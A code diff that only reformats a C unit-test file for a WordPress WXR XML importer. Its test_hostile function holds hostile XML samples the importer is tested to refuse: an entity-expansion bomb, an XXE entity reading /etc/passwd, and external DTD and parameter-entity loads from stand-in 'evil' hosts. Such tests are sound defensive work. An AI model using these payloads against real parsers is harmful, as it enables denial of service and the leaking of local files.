@@ -12,24 +12,24 @@
 
 #include "import/wxr.h"
 
-static const char	*fixtures;
+static const char *fixtures;
 
 struct seen {
-	size_t		 authors, terms, cats, tags, items, posts, pages,
-			 attachments, menu_items, comments, pingbacks, meta;
-	char		 version[8];
-	char		 base[64];
-	int		 sticky_101;
-	int64_t		 parent_202;
-	char		 thumb_101[8];
-	char		 excerpt_101[64];
-	char		 creator_102[16];
-	char		 cat_parent_local[16];
-	char		 term_name_7[32];
-	int64_t		 comment_parent_502;
-	char		 comment_ip_501[32];
-	char		 att_url_20[128];
-	int		 content_101_has_more;
+	size_t authors, terms, cats, tags, items, posts, pages, attachments,
+	    menu_items, comments, pingbacks, meta;
+	char	version[8];
+	char	base[64];
+	int	sticky_101;
+	int64_t parent_202;
+	char	thumb_101[8];
+	char	excerpt_101[64];
+	char	creator_102[16];
+	char	cat_parent_local[16];
+	char	term_name_7[32];
+	int64_t comment_parent_502;
+	char	comment_ip_501[32];
+	char	att_url_20[128];
+	int	content_101_has_more;
 };
 
 static void
@@ -79,8 +79,8 @@ on_term(void *arg, const struct wxr_term *t)
 static enum ng_err
 on_item(void *arg, const struct wxr_item *it)
 {
-	struct seen	*v = arg;
-	size_t		 i;
+	struct seen *v = arg;
+	size_t	     i;
 
 	v->items++;
 	v->meta += it->nmeta;
@@ -108,8 +108,8 @@ on_item(void *arg, const struct wxr_item *it)
 		cpy(v->thumb_101, sizeof(v->thumb_101),
 		    wxr_meta_get(it, "_thumbnail_id"));
 		cpy(v->excerpt_101, sizeof(v->excerpt_101), it->excerpt);
-		v->content_101_has_more = memmem(it->content.p,
-		    it->content.n, "<!--more-->", 11) != NULL;
+		v->content_101_has_more = memmem(it->content.p, it->content.n,
+					      "<!--more-->", 11) != NULL;
 	}
 	if (it->id == 102)
 		cpy(v->creator_102, sizeof(v->creator_102), it->creator);
@@ -123,17 +123,16 @@ on_item(void *arg, const struct wxr_item *it)
 static struct wxr_handler
 handler_of(struct seen *v)
 {
-	return (struct wxr_handler){ v, on_site, on_author, on_term,
-	    on_item };
+	return (struct wxr_handler){ v, on_site, on_author, on_term, on_item };
 }
 
 static enum ng_err
 read_fixture(const char *name, struct seen *v, struct wxr_error *e)
 {
 	struct wxr_handler h = handler_of(v);
-	char		 path[4096], *p;
-	size_t		 n;
-	enum ng_err	 err;
+	char		   path[4096], *p;
+	size_t		   n;
+	enum ng_err	   err;
 
 	memset(v, 0, sizeof(*v));
 	snprintf(path, sizeof(path), "%s/%s", fixtures, name);
@@ -214,11 +213,11 @@ test_wxr_10(void **state)
 static void
 refused(const char *what, const char *doc, size_t n, const char *needle)
 {
-	struct seen	 v;
+	struct seen	   v;
 	struct wxr_handler h = handler_of(&v);
-	struct wxr_error e;
-	struct timespec	 t0, t1;
-	double		 secs;
+	struct wxr_error   e;
+	struct timespec	   t0, t1;
+	double		   secs;
 
 	memset(&v, 0, sizeof(v));
 	clock_gettime(CLOCK_MONOTONIC, &t0);
@@ -242,7 +241,7 @@ refused(const char *what, const char *doc, size_t n, const char *needle)
 }
 
 #define HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
-#define RSS "<rss xmlns:wp=\"http://wordpress.org/export/1.2/\"><channel>"
+#define RSS  "<rss xmlns:wp=\"http://wordpress.org/export/1.2/\"><channel>"
 
 static void
 test_hostile(void **state)
@@ -251,33 +250,33 @@ test_hostile(void **state)
 	    "<!DOCTYPE rss [<!ENTITY a \"aaaaaaaaaa\">"
 	    "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
 	    "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">"
-	    "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]>\n"
-	    RSS "<item><title>&d;</title></item></channel></rss>";
+	    "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]>\n" RSS
+	    "<item><title>&d;</title></item></channel></rss>";
 	static const char xxe[] = HEAD
-	    "<!DOCTYPE rss [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n"
-	    RSS "<item><title>&x;</title></item></channel></rss>";
+	    "<!DOCTYPE rss [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n" RSS
+	    "<item><title>&x;</title></item></channel></rss>";
 	static const char dtd[] = HEAD
-	    "<!DOCTYPE rss SYSTEM \"http://evil.example/x.dtd\">\n"
-	    RSS "<item><title>t</title></item></channel></rss>";
+	    "<!DOCTYPE rss SYSTEM \"http://evil.example/x.dtd\">\n" RSS
+	    "<item><title>t</title></item></channel></rss>";
 	static const char param[] = HEAD
-	    "<!DOCTYPE rss [<!ENTITY % p SYSTEM \"http://evil/x\"> %p;]>\n"
-	    RSS "</channel></rss>";
+	    "<!DOCTYPE rss [<!ENTITY % p SYSTEM \"http://evil/x\"> %p;]>\n" RSS
+	    "</channel></rss>";
 	static const char undef[] = HEAD RSS
 	    "<item><title>&nbsp;</title></item></channel></rss>";
 	static const char trunc[] = HEAD RSS
 	    "<item><title>t</title></item><item><title>cut";
 	static const char badutf8[] = HEAD RSS
 	    "<item><title>caf\xc3\x28 \xff\xfe</title></item></channel></rss>";
-	static const char mismatch[] =
-	    "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n" RSS
-	    "<item><title>t</title></item></channel></rss>";
-	static const char unknown_enc[] =
-	    "<?xml version=\"1.0\" encoding=\"x-klingon\"?>\n" RSS
-	    "</channel></rss>";
+	static const char
+	    mismatch[] = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n" RSS
+			 "<item><title>t</title></item></channel></rss>";
+	static const char unknown_enc
+	    [] = "<?xml version=\"1.0\" encoding=\"x-klingon\"?>\n" RSS
+		 "</channel></rss>";
 	static const char notwxr[] = HEAD "<html><body>hi</body></html>";
 	static const char empty[] = "";
-	char		*deep;
-	size_t		 i, n = 50u * 1024 * 1024;
+	char		 *deep;
+	size_t		  i, n = 50u * 1024 * 1024;
 
 	(void)state;
 	refused("entity bomb", bomb, sizeof(bomb) - 1, "DOCTYPE");
@@ -286,8 +285,7 @@ test_hostile(void **state)
 	refused("parameter entity", param, sizeof(param) - 1, "DOCTYPE");
 	refused("undefined entity", undef, sizeof(undef) - 1, "entity");
 	refused("truncated", trunc, sizeof(trunc) - 1, "not valid XML");
-	refused("invalid UTF-8", badutf8, sizeof(badutf8) - 1,
-	    "not valid XML");
+	refused("invalid UTF-8", badutf8, sizeof(badutf8) - 1, "not valid XML");
 	refused("encoding mismatch", mismatch, sizeof(mismatch) - 1,
 	    "not valid XML");
 	refused("unknown encoding", unknown_enc, sizeof(unknown_enc) - 1,
@@ -308,8 +306,8 @@ test_hostile(void **state)
 static void
 test_field_cap(void **state)
 {
-	size_t		 n = WXR_TEXT_MAX + 200, i, k;
-	char		*doc = malloc(n + 256);
+	size_t n = WXR_TEXT_MAX + 200, i, k;
+	char  *doc = malloc(n + 256);
 
 	(void)state;
 	assert_non_null(doc);
